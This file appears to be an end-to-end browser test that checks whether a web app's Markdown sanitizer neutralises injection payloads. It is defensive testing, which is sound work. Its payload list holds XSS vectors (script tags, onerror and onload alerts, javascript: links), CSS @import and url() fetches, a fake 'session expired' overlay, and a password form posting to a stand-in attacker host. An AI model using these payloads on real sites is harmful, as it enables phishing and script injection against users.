"""A sweep in Chromium: style, `@import`, `url()`, SVG, link and embedding payloads in a module's
briefing (the Markdown field people write) make the browser fetch nothing from another host, draw no
`::before`/`::after` content, open no dialog and run nothing, for the creator typing it (the live
preview), the creator reopening it and a platform admin reading it.

The page's Content-Security-Policy would refuse most of these fetches on its own; the sweep also
fails on a refusal, so it checks the sanitizer (pages/components/markdown.py) and not only the policy.
"""

from __future__ import annotations

import re
import secrets
from urllib.parse import urlsplit

from tests.e2e.conftest import Account, screenshot
from tests.e2e.test_accessibility import CSP_WATCH
from tests.e2e.test_simulations_flow import login

EVIL = "https://evil.example"
PAYLOADS = [
    f"<style>@import '{EVIL}/import.css';</style>",
    '<style>.q-page-container::after{content:"Your session expired. Sign in again at '
    f'{EVIL}/login";position:fixed;inset:0;background:white;z-index:9999}}</style>',
    f'<style>body{{background:url("{EVIL}/bg.png")}}</style>',
    f'<link rel="stylesheet" href="{EVIL}/link.css">',
    f'<div style="position:fixed;inset:0;background-image:url({EVIL}/div.png)">covered</div>',
    f'<span style="background:url({EVIL}/span.png)">styled</span>',
    '<p class="fixed-full bg-white" id="q-app">classes</p>',
    f"<svg><style>@import url({EVIL}/svg.css)</style><image href='{EVIL}/svg.png'/></svg>",
    "<svg onload=alert('svg')></svg>",
    f"<math><style>@import '{EVIL}/math.css'</style></math>",
    f'<img src="{EVIL}/pixel.png" onerror="alert(\'img\')">',
    f"![pixel]({EVIL}/markdown.png)",
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
    f'<form action="{EVIL}/steal"><input name="password"><button>Sign in</button></form>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/meta">',
    f'<base href="{EVIL}/">',
    f'<video poster="{EVIL}/poster.png"></video><audio src="{EVIL}/a.mp3"></audio>',
    f'<table background="{EVIL}/table.png"><tr><td>cell</td></tr></table>',
    "[javascript](javascript:alert('link'))",
    "[data](data:text/html,<script>alert('data')</script>)",
    "<a href=\"javascript:alert('a')\">a</a>",
    "<script>alert('script')</script>",
    f"[a real link]({EVIL}/fine)",  # kept: an http(s) link is fine, and is not fetched
]
BRIEFING = "# Briefing\n\n" + "\n\n".join(PAYLOADS) + "\n\nThe board meets at **nine**."

# Every shown element's ::before and ::after content that is more than an empty decoration (Quasar
# draws underlines and ripples with `content: ""`; NiceGUI's hidden connection-error popup has a sign).
PSEUDO_CONTENT = """() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    if (!el.checkVisibility() || el.closest('.nicegui-error-popup')) continue;
    for (const which of ['::before', '::after']) {
      const content = getComputedStyle(el, which).content;
      if (!['none', 'normal', '""'].includes(content)) found.push(`${el.tagName}${which} ${content}`);
    }
  }
  return found;
}"""


def _watch(page, host: str) -> dict[str, list[str]]:
    seen: dict[str, list[str]] = {"elsewhere": [], "dialogs": []}
    page.on("request", lambda r: urlsplit(r.url).netloc != host and seen["elsewhere"].append(r.url))
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.route(f"{EVIL}/**", lambda route: route.fulfill(status=200, body="x"))
    return seen


def _assert_inert(page, seen: dict[str, list[str]], where: str) -> None:
    markdown = page.locator(".nicegui-markdown").filter(has_text="The board meets at").last
    markdown.wait_for()
    page.wait_for_timeout(300)  # time for any fetch a stylesheet or image would start
    assert not seen["elsewhere"], f"{where}: the browser fetched {seen['elsewhere']}"
    assert not seen["dialogs"], f"{where}: dialogs {seen['dialogs']}"
    assert page.evaluate("window.__cspRefused") == [], f"{where}: {page.evaluate('window.__cspRefused')}"
    pseudo = page.evaluate(PSEUDO_CONTENT)
    assert pseudo == [], (where, pseudo)
    inside = markdown.evaluate(
        """(el) => ({
          tags: [...new Set([...el.querySelectorAll('*')].map((e) => e.tagName.toLowerCase()))].sort(),
          styled: el.querySelectorAll('[style], [class], [id], [background], [poster], [src]').length,
          links: [...el.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.getAttribute('rel')]),
          text: el.textContent })"""
    )
    assert set(inside["tags"]) <= {"h1", "p", "strong", "a", "table", "tbody", "tr", "td"}, (where, inside["tags"])
    assert inside["styled"] == 0, where
    # javascript: and data: links are no links at all (their text stays); the http(s) one is kept.
    assert [tuple(link) for link in inside["links"]] == [(f"{EVIL}/fine", "noopener noreferrer nofollow")], (
        where,
        inside["links"],
    )
    assert "@import" not in inside["text"] and "Your session expired" not in inside["text"], where
    assert page.get_by_role("button", name="Sign in").count() == 0, where  # no form smuggled in


def test_markdown_payloads_render_as_plain_formatted_text(console_server, browser):
    host = urlsplit(console_server.url).netloc
    # A creator of its own: the shared one's catalogue starts empty in the other flows.
    author = Account("markdown@e2e.example", secrets.token_urlsafe(12), "Mark Down")
    console_server.cli(
        "create-user", "--email", author.email, "--name", author.name, "--role", "studio_creator",
        "--password", author.password,
    )  # fmt: skip
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    context.add_init_script(CSP_WATCH)
    page = context.new_page()
    page.set_default_timeout(15_000)
    seen = _watch(page, host)
    login(page, console_server, author)
    page.wait_for_url(f"{console_server.url}/simulations")
    page.goto(f"{console_server.url}/simulations/new")
    page.get_by_label("Title *").fill("Markdown sweep")
    page.keyboard.press("Control+s")
    page.wait_for_url(re.compile(r"/simulations/[0-9a-f-]{36}$"))
    simulation = page.url
    page.get_by_role("tab", name="Modules").click()
    page.get_by_role("button", name="Add module").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Title *").fill("Payloads")
    dialog.get_by_role("button", name="Create module").click()
    dialog.wait_for(state="detached")
    page.get_by_text("Module added.").wait_for()
    page.wait_for_timeout(500)
    editor = page.locator(".q-card", has=page.get_by_role("button", name="Save module"))
    editor.locator("textarea").first.fill(BRIEFING)
    _assert_inert(page, seen, "the creator's live preview")
    page.get_by_role("button", name="Save module").click()
    page.get_by_text("Module saved.").wait_for()
    screenshot(page, "17-markdown-sweep-preview")

    page.goto(f"{simulation}?tab=modules")  # drawn from what was stored
    page.get_by_text("Payloads", exact=True).first.click()
    _assert_inert(page, seen, "the creator reopening the module")
    context.close()

    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    context.add_init_script(CSP_WATCH)
    page = context.new_page()
    page.set_default_timeout(15_000)
    seen = _watch(page, host)
    login(page, console_server, console_server.admin)
    page.wait_for_url(lambda u: "/login" not in u)
    page.goto(f"{simulation}?tab=modules")
    page.get_by_text("Payloads", exact=True).first.click()
    _assert_inert(page, seen, "a platform admin reading the module")
    screenshot(page, "18-markdown-sweep-admin")
    context.close()
